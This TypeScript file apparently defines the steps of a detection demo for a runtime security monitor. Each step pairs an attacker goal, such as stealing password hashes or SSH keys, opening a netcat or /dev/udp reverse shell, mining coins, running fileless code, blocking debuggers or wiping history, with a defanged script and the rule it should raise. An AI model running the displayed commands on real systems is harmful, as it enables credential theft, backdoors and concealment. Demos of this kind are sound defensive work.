/** What the demo does: each step is harmless, works in a folder of its own and takes back what it changed. */

export interface Step {
  /** What an attacker would be after. */
  readonly what: string;
  /** The command as shown; `FOLDER` is the demo's own. */
  readonly shown: string;
  /**
   * What bash runs, with $folder (the demo's own) and $token (a word that every program of the step should have
   * among its arguments where it is not a child of the step's shell).
   */
  readonly script: string;
  /** A program without which the step is left out. */
  readonly needs?: string;
  /** The default rule that it is meant to raise. */
  readonly rule: string;
}

/** Numbers of system calls that only perl can make for us here (unistd_64.h; asm-generic/unistd.h). */
const calls =
  process.arch === "arm64"
    ? { initModule: 105, memfdCreate: 279, ptrace: 117 }
    : { initModule: 175, memfdCreate: 319, ptrace: 101 };

export const steps: readonly Step[] = [
  {
    what: "read password hashes",
    shown: "cat /etc/shadow",
    script: "cat /etc/shadow",
    rule: "Sensitive file read on the host",
  },
  {
    what: "look for private keys",
    shown: 'grep -r "BEGIN OPENSSH PRIVATE KEY" FOLDER',
    script: 'grep -r "BEGIN OPENSSH PRIVATE KEY" "$folder/empty" || true',
    rule: "Private keys searched for",
  },
  {
    what: "steal a private key",
    shown: "cat FOLDER/.ssh/id_ed25519",
    script:
      'mkdir -p "$folder/.ssh" && echo none >"$folder/.ssh/id_ed25519" && cat "$folder/.ssh/id_ed25519"',
    rule: "Private SSH key read",
  },
  {
    what: "let a key of one's own log in",
    shown: "echo KEY >>FOLDER/.ssh/authorized_keys",
    script: 'mkdir -p "$folder/.ssh" && echo none >>"$folder/.ssh/authorized_keys"',
    rule: "Login keys of SSH changed",
  },
  {
    what: "lure a privileged program to the passwords",
    shown: "ln -s /etc/shadow FOLDER/link",
    script: 'ln -s /etc/shadow "$folder/link"',
    rule: "Symbolic link to a sensitive file",
  },
  {
    what: "offer a shell by netcat",
    shown: "nc -e /bin/sh 127.0.0.1 1",
    script: 'ln -s /bin/true "$folder/nc" && "$folder/nc" -e /bin/sh 127.0.0.1 1',
    rule: "Netcat that can run commands",
  },
  {
    what: "open a reverse shell",
    shown: "exec 3<>/dev/udp/127.0.0.1/9; exec 0<&3",
    script: "exec 3<>/dev/udp/127.0.0.1/9; exec 0<&3",
    rule: "Shell input or output moved to a connection",
  },
  {
    what: "make a web server run a command",
    shown: "nginx starts sh",
    script: 'ln -s "$(command -v bash)" "$folder/nginx" && "$folder/nginx" -c "sh -c \'true $token\'; true"',
    rule: "Shell started by a server program",
  },
  {
    what: "mine coins",
    shown: "xmrig -o stratum+tcp://pool.invalid:3333",
    script: 'ln -s /bin/true "$folder/xmrig" && "$folder/xmrig" -o stratum+tcp://pool.invalid:3333',
    rule: "Coin miner started",
  },
  {
    what: "run a program from shared memory",
    shown: "/dev/shm/TOKEN",
    script: 'cp "$(readlink -f /bin/true)" "/dev/shm/$token" && "/dev/shm/$token"; rm -f "/dev/shm/$token"',
    rule: "Program run from shared memory",
  },
  {
    what: "run a program that never was a file",
    shown: "memfd_create, then execve of /proc/self/fd/N",
    needs: "perl",
    script: `perl -e '
      my $fd = syscall(${calls.memfdCreate}, my $name = "demo", 0);
      open(my $to, ">&=", $fd); open(my $from, "<", "/bin/true"); binmode($_) for $to, $from;
      local $/; print $to scalar <$from>; $to->flush;
      exec { "/proc/self/fd/$fd" } "true", $ARGV[0];' "$token"`,
    rule: "Program run from memory",
  },
  {
    what: "keep debuggers away",
    shown: "ptrace(PTRACE_TRACEME)",
    needs: "perl",
    script: `perl -e 'syscall(${calls.ptrace}, 0, 0, 0, 0)' "$token"`,
    rule: "Process guards itself against debuggers",
  },
  {
    what: "load a kernel module",
    shown: "init_module of nothing, which the kernel refuses",
    needs: "perl",
    script: `perl -e 'syscall(${calls.initModule}, my $image = "", 0, my $parameters = "")' "$token"`,
    rule: "Kernel module loaded by an unexpected program",
  },
  {
    what: "leave a way to root",
    shown: "chmod 4755 FOLDER/shell",
    script: ': >"$folder/shell" && chmod 4755 "$folder/shell"',
    rule: "Set-user-ID bit set",
  },
  {
    what: "replace a system program",
    shown: "echo >/usr/local/bin/TOKEN",
    script: 'echo >"/usr/local/bin/$token"; rm -f "/usr/local/bin/$token"',
    rule: "Write below a binary folder",
  },
  {
    what: "hide a file",
    shown: "touch /tmp/.TOKEN",
    script: 'touch "/tmp/.$token"; rm -f "/tmp/.$token"',
    rule: "Hidden file made in a shared folder",
  },
  {
    what: "wipe the traces",
    shown: "rm FOLDER/.bash_history",
    script: ': >"$folder/.bash_history" && rm "$folder/.bash_history"',
    rule: "Shell history wiped",
  },
];
